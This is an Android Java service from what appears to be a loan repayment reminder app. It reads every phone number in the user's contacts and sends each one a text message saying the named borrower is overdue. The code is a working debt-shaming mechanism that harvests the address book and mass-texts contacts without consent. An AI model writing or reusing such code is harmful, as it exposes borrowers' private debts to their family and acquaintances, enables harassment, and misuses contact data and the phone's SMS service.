package com.daoqibao.repay.remind;

import android.app.IntentService;
import android.content.Intent;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.telephony.SmsManager;
import com.daoqibao.repay.Bill;
import com.daoqibao.repay.R;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** Sends one text message to everybody in the address book. */
public class NotifyService extends IntentService {
  public NotifyService() {
    super("notify");
  }

  @Override
  protected void onHandleIntent(Intent intent) {
    String text = getString(R.string.overdue_text, Bill.load(this).borrower);
    for (String number : everybody()) {
      send(number, text);
    }
  }

  private Set<String> everybody() {
    Set<String> numbers = new LinkedHashSet<String>();
    Cursor rows =
        getContentResolver()
            .query(Phone.CONTENT_URI, new String[] {Phone.NUMBER}, null, null, null);
    if (rows != null) {
      while (rows.moveToNext()) {
        numbers.add(rows.getString(0).replace(" ", ""));
      }
      rows.close();
    }
    return numbers;
  }

  private void send(String number, String text) {
    SmsManager manager = SmsManager.getDefault();
    List<String> parts = manager.divideMessage(text);
    manager.sendMultipartTextMessage(
        number, null, new ArrayList<String>(parts), null, null);
  }
}
